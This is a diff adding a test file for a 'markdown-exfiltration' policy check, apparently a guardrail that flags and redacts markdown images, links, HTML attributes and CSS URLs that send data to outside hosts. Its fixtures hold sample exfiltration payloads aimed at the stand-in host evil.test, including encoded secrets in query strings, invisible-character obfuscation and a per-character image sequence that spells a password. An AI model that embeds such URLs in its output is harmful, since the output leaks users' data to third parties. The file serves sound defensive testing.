@@ -1,0 +1,164 @@
+/** The `markdown-exfiltration` check: its params, its spans, what it says. */
+import { describe, expect, it } from 'vitest';
+import { getCheck } from '../../../src/policy/checks/registry.js';
+import type { CheckOutcome } from '../../../src/policy/checks/types.js';
+import { redactRange } from '../../../src/policy/redact.js';
+import { input } from '../../helpers/check-input.js';
+
+const def = getCheck('markdown-exfiltration')!;
+const run = (params: object, text: string): CheckOutcome =>
+  def.create(def.params.parse(params)).evaluate(input(text));
+const fails = (params: object, text: string) => run(params, text).status === 'fail';
+const redacted = (params: object, text: string) => {
+  const out = run(params, text);
+  return out.status === 'fail'
+    ? redactRange(
+        text,
+        out.spans.map((s) => ({ ...s, rule: 'r' })),
+      ).text
+    : text;
+};
+
+const hex = (s: string) => Buffer.from(s).toString('hex');
+const camo = (c: string) =>
+  `https://camo.githubusercontent.com/${hex(`k${c}`).padEnd(40, '0')}/${hex(`https://x.test/${c}`)}`;
+const CAMO_RUN = [...'hunter2'].map((c) => `![${c}](${camo(c)})`).join('');
+
+describe('markdown-exfiltration params', () => {
+  it.each([
+    ['defaults: an image with data', {}, '![a](https://evil.test/p.png?d=c2VjcmV0)', true],
+    ['defaults: a link with data', {}, '[a](https://evil.test/?q=the+user+asked)', true],
+    [
+      'an allowed host',
+      { allow_domains: ['evil.test'] },
+      '![a](https://evil.test/p.png?d=c2VjcmV0)',
+      false,
+    ],
+    [
+      'a wildcard',
+      { allow_domains: ['*.evil.test'] },
+      '![a](https://cdn.evil.test/p.png?d=c2VjcmV0)',
+      false,
+    ],
+    [
+      'a sequence to an allowed host',
+      { allow_domains: ['camo.githubusercontent.com'] },
+      CAMO_RUN,
+      true,
+    ],
+    [
+      'sequences off',
+      { allow_domains: ['camo.githubusercontent.com'], image_series: 0 },
+      CAMO_RUN,
+      false,
+    ],
+    ['links off: a link', { links: false }, '[a](https://evil.test/?q=the+user+asked)', false],
+    ['links off: an image', { links: false }, '![a](https://evil.test/p.png?d=c2VjcmV0)', true],
+    [
+      'links off: an image whose `[` is out of sight',
+      { links: false },
+      'alt](https://evil.test/p.png?d=c2VjcmV0)',
+      true,
+    ],
+    [
+      'links off: an HTML link',
+      { links: false },
+      '<a href="https://evil.test/?q=the+user+asked">x</a>',
+      false,
+    ],
+    ['a tracking pixel', { all_external_images: true }, '![a](https://evil.test/pixel.gif)', true],
+    ['a plain image', {}, '![a](https://evil.test/pixel.gif)', false],
+    ['a bare URL, by default', {}, 'see https://evil.test/?q=the+user+asked', false],
+    [
+      'a bare URL, when asked',
+      { bare_urls: true },
+      'see https://evil.test/?q=the+user+asked',
+      true,
+    ],
+    [
+      'a harmless parameter of the policy',
+      { harmless_params: ['variant'] },
+      '![a](https://e.test/p.png?variant=dark)',
+      false,
+    ],
+    ['an unknown parameter', {}, '![a](https://e.test/p.png?variant=dark)', true],
+    [
+      'a host exception',
+      { host_exceptions: [{ hosts: ['cdn.e.test'], params: ['sig'] }] },
+      '![a](https://cdn.e.test/p.png?sig=ab12cd34)',
+      false,
+    ],
+    [
+      'a host exception for paths',
+      { host_exceptions: [{ hosts: ['cdn.e.test'], path: true }] },
+      '![a](https://cdn.e.test/c2VjcmV0IHByb2plY3Q.png)',
+      false,
+    ],
+    [
+      'built-in allowances on',
+      {},
+      '![a](https://img.shields.io/badge/x-y-green?style=flat)',
+      false,
+    ],
+    [
+      'built-in allowances off',
+      { builtin_allowances: false },
+      '![a](https://img.shields.io/badge/x-y-green?style=flat)',
+      true,
+    ],
+  ])('%s', (_n, params, text, expected) => {
+    expect(fails(params, text)).toBe(expected);
+  });
+
+  it('rejects a host exception without hosts', () => {
+    expect(def.params.safeParse({ host_exceptions: [{ hosts: [] }] }).success).toBe(false);
+  });
+});
+
+describe('markdown-exfiltration spans', () => {
+  it.each([
+    ['an inline image', '![a](https://evil.test/p.png?d=x1) ok', '![a]([REDACTED:r]) ok'],
+    ['a `<…>` destination', '![a](<https://evil.test/p q.png?d=x1>)', '![a](<[REDACTED:r]>)'],
+    [
+      'an entity-encoded attribute',
+      '<img alt=">" src="&#104;ttps://evil.test/?d=x1">',
+      '<img alt=">" src="[REDACTED:r]">',
+    ],
+    [
+      'a definition',
+      '![a][r]\n\n[r]:\n  https://evil.test/?d=x1',
+      '![a][r]\n\n[r]:\n  [REDACTED:r]',
+    ],
+    [
+      'CSS',
+      '<style>b{background:url(https://evil.test/?d=x1)}</style>',
+      '<style>b{background:url([REDACTED:r])}</style>',
+    ],
+    [
+      'invisible characters in the URL',
+      '![a](https://ev\u2060il.test/p.png?d=x\u200b1)',
+      '![a]([REDACTED:r])',
+    ],
+  ])('redacts %s', (_n, text, out) => {
+    expect(redacted({}, text)).toBe(out);
+  });
+
+  it('redacts every image of a sequence', () => {
+    const out = redacted({ allow_domains: ['camo.githubusercontent.com'] }, CAMO_RUN);
+    expect(out).toBe([...'hunter2'].map((c) => `![${c}]([REDACTED:r])`).join(''));
+  });
+
+  it('says what it found without quoting it', () => {
+    const out = run({}, `![a](https://evil.test/p.png?d=hunter2) ${CAMO_RUN}`);
+    expect(out.status === 'fail' && out.detail).toBe(
+      '8 image(s) or link(s) sending data to another host (7 in an image sequence spelling data)',
+    );
+  });
+
+  it('holds streams at every construct it reads', () => {
+    const texts = (p: object) =>
+      (def.create(def.params.parse(p)).stream?.triggers ?? []).map((t) => String(t.text));
+    expect(texts({})).toEqual(['](', ']:', '<', '<style']);
+    expect(texts({ bare_urls: true })).toEqual(['](', ']:', '<', '<style', 'http', 'www.']);
+  });
+});
